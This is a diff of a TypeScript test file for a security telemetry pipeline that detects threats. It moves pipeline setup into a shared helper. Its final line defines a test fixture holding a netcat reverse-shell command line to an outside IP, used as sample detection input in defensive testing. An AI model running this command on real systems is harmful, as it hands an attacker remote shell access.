@@ -4,19 +4,15 @@
 import { join } from 'node:path';
 import { connectBus, provision, type Bus } from '@omega/bus';
 import { HybridVerifier, loadMlDsaBackend } from '@omega/crypto';
-import { DetectorSet } from '@omega/detect';
 import { EventBatch, Severity, type Event } from '@omega/proto';
 import { createLogger } from '@omega/runtime';
-import { BatchGate, SenderDirectory } from '@omega/service';
 import { withNats } from '@omega/testkit';
 import { Registry } from 'prom-client';
-import { AlertSuppression } from './alert-suppression';
-import { IncidentCorrelator } from './incident-correlator';
-import { intelligenceMetrics } from './intelligence-metrics';
 import { MODULE_DISABLED_KIND, MODULE_FAULT_KIND, MODULE_FINDING_KIND } from './module-alert';
 import { RuleCatalog } from './rule-catalog';
 import { processLaunch } from './testing/spec-events';
-import { TelemetryPipeline } from './telemetry-pipeline';
+import type { TelemetryPipeline } from './telemetry-pipeline';
+import { specPipeline } from './testing/spec-pipeline';
 
 const nats = withNats({ jetstream: true });
 const logger = createLogger({ service: 'intelligence', level: 'silent' });
@@ -32,25 +28,8 @@ beforeAll(async () => {
   nats.beforeStop(() => bus.drain());
 });
 
-async function pipeline(registry: Registry): Promise<TelemetryPipeline> {
-  const metrics = intelligenceMetrics(registry);
-  return new TelemetryPipeline({
-    bus,
-    gate: new BatchGate({
-      policy: 'require',
-      directory: new SenderDirectory(await bus.kv('omega_identities')),
-      verifier,
-      maxAgeMs: 3_600_000,
-      maxSkewMs: 60_000,
-      counter: metrics.batches,
-    }),
-    rules: { catalog },
-    detectors: new DetectorSet(),
-    incidents: new IncidentCorrelator(),
-    suppression: new AlertSuppression(),
-    metrics,
-    logger,
-  });
+function pipeline(registry: Registry): Promise<TelemetryPipeline> {
+  return specPipeline(bus, catalog, verifier, registry);
 }
 
 const REVERSE_SHELL = { Image: '/usr/bin/nc', CommandLine: 'nc -e /bin/sh 10.9.9.9 4444' };
